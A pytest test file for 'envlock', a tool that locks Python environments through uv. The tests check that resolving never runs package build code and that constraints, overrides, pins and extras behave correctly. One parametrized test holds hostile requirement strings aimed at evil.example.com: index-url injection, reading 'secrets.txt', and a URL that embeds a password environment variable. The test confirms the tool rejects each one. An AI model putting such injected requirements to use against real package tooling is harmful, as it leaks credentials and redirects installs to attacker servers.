"""Resolving with the real uv, from folders alone."""

from __future__ import annotations

from pathlib import Path

import msgspec
import pytest

from envlock.adapters.refusing_python import REFUSED, refusing_python
from envlock.adapters.uv import Uv
from envlock.errors import UsageError
from envlock.model.edges import BuildRefusedError, Metadata, MetadataUnknownError, Resolution
from envlock.model.index import Index, Indexes
from envlock.model.platform import Platform
from tests.unit.sdists import hostile_sdist, make_sdist
from tests.unit.wheels import make_wheel

WANTED = Resolution(
    requirements=("demo",), python="3.9", platform=Platform("linux", "amd64"), glibc="2.31", cutoff=None
)


@pytest.fixture
def uv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Uv:
    """A uv that knows the folder `index` alone."""
    monkeypatch.setenv("ENVLOCK_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "uv"))
    (tmp_path / "index").mkdir()
    folder = Index(name="folder", url=(tmp_path / "index").as_uri(), format="flat", default=True)
    return Uv(offline=True, indexes=Indexes(entries=(folder,)))


def versions(uv: Uv, wanted: Resolution) -> dict[str, str]:
    """Return what is resolved."""
    return {package["name"]: package["version"] for package in uv.resolve(wanted)}


@pytest.mark.parametrize("backend", [False, True], ids=["setup.py", "backend of its own tree"])
def test_no_code_of_an_sdist_runs(uv: Uv, tmp_path: Path, *, backend: bool) -> None:
    """An sdist that would tell its requirements only by running is named instead."""
    mark = tmp_path / "mark"
    hostile_sdist(tmp_path / "index", "demo", mark, backend=backend)
    with pytest.raises(MetadataUnknownError) as caught:
        uv.resolve(WANTED)
    assert (caught.value.project, caught.value.version) == ("demo", "1.0")
    assert not mark.exists()


def test_no_code_of_a_folder_runs(uv: Uv, tmp_path: Path) -> None:
    """Not of a source tree that a requirements file names, and not of an editable one."""
    mark = tmp_path / "mark"
    (tmp_path / "tree").mkdir()
    (tmp_path / "tree" / "setup.py").write_text(f"open({str(mark)!r}, 'w')")
    for line in ("./tree", "-e ./tree"):
        (tmp_path / "requirements.txt").write_text(line)
        wanted = msgspec.structs.replace(
            WANTED, requirements=(), files=(tmp_path / "requirements.txt",), folder=tmp_path
        )
        with pytest.raises(UsageError, match="unlockable-source"):
            uv.resolve(wanted)
    assert not mark.exists()


def test_the_interpreter_answers_questions_and_runs_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It is made again where its hook was taken away."""
    import subprocess

    monkeypatch.setenv("ENVLOCK_CACHE_DIR", str(tmp_path))
    python = refusing_python()
    assert subprocess.run([python, "-I", "-c", "print(1)"], check=True, capture_output=True).stdout == b"1\n"
    for arguments in (["-c", "print(1)"], ["-m", "this"]):
        done = subprocess.run([python, *arguments], check=False, capture_output=True)
        assert (done.returncode, done.stdout) == (REFUSED, b"")
    [hook] = tmp_path.rglob("refuse.pth")
    hook.unlink()
    assert refusing_python() == python
    assert subprocess.run([python, "-c", "print(1)"], check=False, capture_output=True).returncode == REFUSED


def test_metadata_stands_in_for_an_sdists(uv: Uv, tmp_path: Path) -> None:
    """What it says is required is resolved, extras and markers included."""
    index = tmp_path / "index"
    make_sdist(index)
    make_wheel(index, "needed", "2.0")
    make_wheel(index, "extra", "3.0")
    metadata = Metadata(
        name="demo",
        version="1.0",
        requires_dist=("needed", 'extra ; extra == "more"', 'absent ; python_version < "3"'),
        provides_extra=("more",),
    )
    wanted = msgspec.structs.replace(WANTED, metadata=(metadata,))
    assert versions(uv, wanted) == {"demo": "1.0", "needed": "2.0"}
    more = msgspec.structs.replace(wanted, requirements=("demo[more]",))
    assert versions(uv, more) == {"demo": "1.0", "needed": "2.0", "extra": "3.0"}


def test_without_sdists_only_wheels_count(uv: Uv, tmp_path: Path) -> None:
    """An older release with a wheel is taken; where there is none, the error says why."""
    index = tmp_path / "index"
    make_sdist(index, version="2.0")
    wanted = msgspec.structs.replace(WANTED, sdists=False)
    with pytest.raises(BuildRefusedError) as caught:
        uv.resolve(wanted)
    assert str(caught.value).startswith("demo: no fitting wheel, and nothing may be built")
    make_wheel(index, "demo", "1.0")
    assert versions(uv, wanted) == {"demo": "1.0"}


def test_constraints_and_overrides(uv: Uv, tmp_path: Path) -> None:
    """Constraints narrow what is required anyway, overrides stand instead of what packages ask for."""
    index = tmp_path / "index"
    make_wheel(index, "demo", requires=("needed<2",))
    for version in ("1.0", "1.1", "2.0"):
        make_wheel(index, "needed", version)
    assert versions(uv, WANTED) == {"demo": "1.0", "needed": "1.1"}
    narrowed = msgspec.structs.replace(WANTED, constraints=("needed<1.1", "unused>1"))
    assert versions(uv, narrowed) == {"demo": "1.0", "needed": "1.0"}
    overridden = msgspec.structs.replace(WANTED, overrides=("needed==2.0",))
    assert versions(uv, overridden) == {"demo": "1.0", "needed": "2.0"}


def test_extras_and_groups_of_a_pyproject(uv: Uv, tmp_path: Path) -> None:
    """They are those of the pyproject.toml among the files."""
    index = tmp_path / "index"
    for name in ("demo", "more", "dev", "plain"):
        make_wheel(index, name)
    (tmp_path / "requirements.txt").write_text("plain\n")
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname = "own"\nversion = "1"\ndependencies = ["demo"]\n'
        '[project.optional-dependencies]\nmore = ["more"]\n[dependency-groups]\ndev = ["dev"]\n'
    )
    wanted = msgspec.structs.replace(
        WANTED,
        requirements=(),
        files=(tmp_path / "requirements.txt", tmp_path / "pyproject.toml"),
        extras=("more",),
        groups=("dev",),
    )
    assert sorted(versions(uv, wanted)) == ["demo", "dev", "more", "plain"]


def test_pins_stay_and_one_moves(uv: Uv, tmp_path: Path) -> None:
    """To the newest release, or to the one that is asked for."""
    for name in ("demo", "other"):
        for version in ("1.0", "1.1", "1.2"):
            make_wheel(tmp_path / "index", name, version)
    pins = "".join(f'\n[[packages]]\nname = "{name}"\nversion = "1.0"\n' for name in ("demo", "other"))
    before = f'lock-version = "1.0"\ncreated-by = "envlock"\n{pins}'.encode()
    wanted = msgspec.structs.replace(WANTED, requirements=("demo", "other"), previous=before)
    assert versions(uv, wanted) == {"demo": "1.0", "other": "1.0"}
    one = msgspec.structs.replace(wanted, upgrade_packages=("demo",))
    assert versions(uv, one) == {"demo": "1.2", "other": "1.0"}
    exact = msgspec.structs.replace(wanted, upgrade_packages=("demo==1.1",))
    assert versions(uv, exact) == {"demo": "1.1", "other": "1.0"}


def test_settings_of_this_machine_do_not_count(uv: Uv, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither uv's variables nor a uv.toml, nor [tool.uv] of the folder."""
    make_wheel(tmp_path / "index", "demo", "1.0")
    make_wheel(tmp_path / "index", "demo", "2.0")
    (tmp_path / "constraints.txt").write_text("demo<2\n")
    monkeypatch.setenv("UV_CONSTRAINT", str(tmp_path / "constraints.txt"))
    monkeypatch.setenv("UV_INDEX_URL", "http://127.0.0.1:9/simple")
    (tmp_path / "uv.toml").write_text('[pip]\nresolution = "lowest"\n')
    monkeypatch.setenv("UV_CONFIG_FILE", str(tmp_path / "uv.toml"))
    monkeypatch.chdir(tmp_path)
    assert versions(uv, msgspec.structs.replace(WANTED, folder=tmp_path)) == {"demo": "2.0"}


@pytest.mark.parametrize(
    "hostile",
    [
        "--index-url=https://evil.example.com/simple",
        "-r secrets.txt",
        "demo\n--index-url=https://evil.example.com/simple",
        "demo @ https://evil.example.com/demo-1.0-py3-none-any.whl\n-r secrets.txt",
        "demo @ https://evil.example.com/${UV_INDEX_OWN_PASSWORD}/demo-1.0-py3-none-any.whl",
        "demo @ https://evil.example.com/demo-1.0-py3-none-any.whl\\",
    ],
)
@pytest.mark.parametrize("field", ["requirements", "constraints", "overrides"])
def test_a_requirement_is_never_an_option(uv: Uv, hostile: str, field: str) -> None:
    """Names out of other tools' locks or of what is installed cannot tell uv where to look or what to read."""
    with pytest.raises(UsageError, match="bad-requirement"):
        uv.resolve(msgspec.structs.replace(WANTED, **{field: ("demo", hostile)}))


def test_an_interpreter_that_is_not_there(uv: Uv, tmp_path: Path) -> None:
    """A path is looked for as it is, and a version wherever interpreters are."""
    for python, hint in ((str(tmp_path / "python3"), "Leave --python out"), ("3.99", "uv python install 3.99")):
        with pytest.raises(UsageError, match="no-interpreter") as caught:
            uv.make_venv(tmp_path / "venv", python)
        assert hint in caught.value.hint
    assert not (tmp_path / "venv").exists()
